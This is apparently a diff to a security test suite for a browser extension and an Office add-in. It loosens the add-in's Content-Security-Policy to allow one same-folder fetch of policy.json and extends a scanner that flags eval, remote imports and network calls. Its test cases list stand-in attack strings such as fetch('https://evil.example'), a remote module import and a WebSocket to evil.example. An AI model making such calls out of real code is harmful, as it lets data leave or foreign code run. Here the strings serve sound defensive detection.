@@ -65,11 +65,11 @@ describe.each(browsers)("the extension for %s", (browser) => {
   test("carries the notices", () => expect(read(`extension/${browser}-mv3/THIRD-PARTY-NOTICES.txt`)).toContain("preact"));
 });
 
-test.each(["taskpane.html", "launchevent.html"])("the add-in's %s may load Office.js and its own files, and connect to nothing", (page) => {
+test.each(["taskpane.html", "launchevent.html"])("the add-in's %s may load Office.js, and reach nothing but its own folder", (page) => {
   const policy = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(read(`addin/${page}`))?.[1] ?? "";
   const rules = new Map(policy.split("; ").map((rule) => [rule.split(" ")[0], rule.split(" ").slice(1)] as const));
   expect(rules.get("default-src")).toEqual(["'none'"]);
-  expect(rules.get("connect-src")).toEqual(["'none'"]);
+  expect(rules.get("connect-src")).toEqual(["'self'"]);
   expect(rules.get("form-action")).toEqual(["'none'"]);
   for (const source of rules.get("script-src") ?? ["missing"]) expect(["'self'", ...OFFICE_HOSTS]).toContain(source);
 });
@@ -123,7 +123,9 @@ describe("no code from elsewhere, and no code made of text:", () => {
   const js = scripts.filter((file) => file.endsWith(".js"));
   test("there are scripts to look at", () => expect(js.length).toBeGreaterThan(8));
   test.each(js)("%s", (file) => {
-    expect(dangers(read(file))).toEqual([]);
+    // The add-in's pages ask one file of their own folder: the organisation's policy. The send handler asks nothing.
+    const asks = /^addin\/(?:taskpane|event-page)\.js$/.test(file);
+    expect(dangers(read(file))).toEqual(asks ? ["the policy beside the add-in"] : []);
   });
   test.each(scripts.filter((file) => file.endsWith(".html")))("%s loads only its own files", (file) => {
     const addresses = Array.from(read(file).matchAll(/\b(?:src|href)="([^"]+)"/g), ([, address = ""]) => address);
@@ -132,6 +134,8 @@ describe("no code from elsewhere, and no code made of text:", () => {
     if (!file.startsWith("addin/")) expect(foreign).toEqual([]);
     expect(read(file)).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>[^<]*\S/);
   });
+  test("the one request is known for what it is", () =>
+    expect(dangers("fetch(`policy.json`, { cache: 'no-cache', redirect: 'error', signal })")).toEqual(["the policy beside the add-in"]));
   test.each([
     ["eval", "eval(x)"],
     ["new Function", "new Function('return 1')"],
@@ -143,14 +147,37 @@ describe("no code from elsewhere, and no code made of text:", () => {
     ["a module from elsewhere", "import('https://evil.example/x.js')"],
     ["a module nobody knows", "import(x)"],
     ["fetch", "fetch('https://evil.example')"],
+    ["fetch of the policy that sends something along", "fetch('policy.json', { method: 'POST', body: x })"],
+    ["fetch of the policy with options nobody knows", "fetch('policy.json', x)"],
+    ["fetch of the policy with something in its address", "fetch('policy.json?' + x)"],
     ["XMLHttpRequest", "new XMLHttpRequest()"],
     ["WebSocket", "new WebSocket('wss://evil.example')"],
     ["a beacon", "navigator.sendBeacon('x', 'y')"],
     ["event source", "new EventSource('x')"],
     ["a peer connection", "new RTCPeerConnection()"],
     ["WebAssembly", "WebAssembly.instantiate(x)"],
-  ])("%s is noticed", (_what, code) => expect(dangers(code)).toHaveLength(1));
+  ])("%s is noticed", (_what, code) => {
+    expect(dangers(code)).toHaveLength(1);
+    expect(dangers(code)).not.toContain("the policy beside the add-in");
+  });
 });
+
+/** A GET for `policy.json` beside the page, with nothing of ours in it: no body, no headers, nothing in the address. */
+function asksForPolicy([address, options]: readonly Node[]): boolean {
+  const plain =
+    address?.type === "Literal"
+      ? address.value
+      : address?.type === "TemplateLiteral" && (address.expressions as Node[]).length === 0
+        ? (address.quasis as { value: { cooked: string } }[])[0]?.value.cooked
+        : undefined;
+  if (plain !== "policy.json") return false;
+  if (options === undefined) return true;
+  if (options.type !== "ObjectExpression") return false;
+  const names = (options.properties as { key?: { name?: string }; computed?: boolean }[]).map(({ key, computed }) =>
+    computed ? undefined : key?.name,
+  );
+  return names.every((name) => name !== undefined && ["cache", "redirect", "signal"].includes(name));
+}
 
 /** Where Office.js and the parts it loads itself come from. */
 const OFFICE_HOSTS = ["https://appsforoffice.microsoft.com", "https://ajax.aspnetcdn.com"];
@@ -187,7 +214,8 @@ function dangers(code: string): string[] {
       const first = given[0];
       const text =
         first?.type === "TemplateLiteral" || (first?.type === "Literal" && typeof (first as { value?: unknown }).value === "string");
-      if (CALLS.test(name)) found.push(name);
+      if (name === "fetch" && type === "CallExpression" && asksForPolicy(given)) found.push("the policy beside the add-in");
+      else if (CALLS.test(name)) found.push(name);
       else if (name === "constructor" && text && type === "CallExpression") found.push("constructor");
       else if (/^set(?:Timeout|Interval)$/.test(name) && text) found.push(name);
     }
